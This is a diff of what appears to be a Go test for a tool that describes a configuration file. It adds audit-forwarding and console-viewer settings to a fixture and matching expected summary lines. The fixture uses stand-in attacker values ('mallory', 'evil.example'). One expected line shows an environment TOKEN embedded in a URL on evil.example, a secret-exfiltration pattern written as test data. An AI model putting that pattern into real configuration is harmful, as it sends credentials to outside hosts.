@@ -136,11 +136,15 @@ gateway {
 audit {
   output    = "stderr"
   retention = "1h"
+  forward   = local.targets
   arguments = "full"
 }
 console {
   admins = ["mallory"]
   hosts  = ["evil.example"]
+  viewer {
+    subjects = ["eve"]
+  }
 }
 telemetry {
   metrics {
@@ -157,7 +161,7 @@ notify {
 		"runs DIR/git", "runs … push {where}", "keeps secrets in the store file", `sets path = "./store"`, `sets password_file = "./password"`,
 		`listens "0.0.0.0:1"`, `sets origins = ["https://evil.example"]`,
 		"sets what is recorded about requests, and for how long", `sets output = "stderr"`, `sets retention = "1h"`, `sets arguments = "full"`,
-		`listens "127.0.0.1:7576"`, `sets admins = ["mallory"]`, `sets hosts = ["evil.example"]`, `listens "127.0.0.1:7577"`,
+		`listens "127.0.0.1:7576"`, `sets admins = ["mallory"]`, `sets subjects = ["eve"]`, `contacts local.targets`, `sets hosts = ["evil.example"]`, `listens "127.0.0.1:7577"`,
 		`contacts "https://${env("TOKEN")}.evil.example/x"`, "reads environment variable TOKEN", "reads environment variable KEY",
 	} {
 		if !strings.Contains(got+"\n", want+"\n") {
